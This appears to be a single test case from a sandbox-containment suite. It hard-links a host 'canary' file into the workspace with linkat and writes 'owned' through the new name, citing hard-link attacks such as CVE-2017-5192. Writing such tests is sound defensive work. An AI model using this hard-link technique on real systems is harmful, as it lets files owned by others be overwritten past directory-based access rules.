"""Give a host file a name in the workspace, and write to it there.

origin: hard-link attacks on writable directories, CVE-2017-5192 and its like
why: a rule about directories does not see that the file is another's
control: succeeds
harm: stage
grants: fs:workspace:rw
"""


def attack(target):
    result, error = syscall(target, "linkat", AT_FDCWD, os.fsencode(target["canary"]), AT_FDCWD, b"alias", 0)
    if result < 0:
        return blocked("linkat", error)
    with open("alias", "w") as file:
        file.write("owned")
    return escaped("a host file was written by its second name")
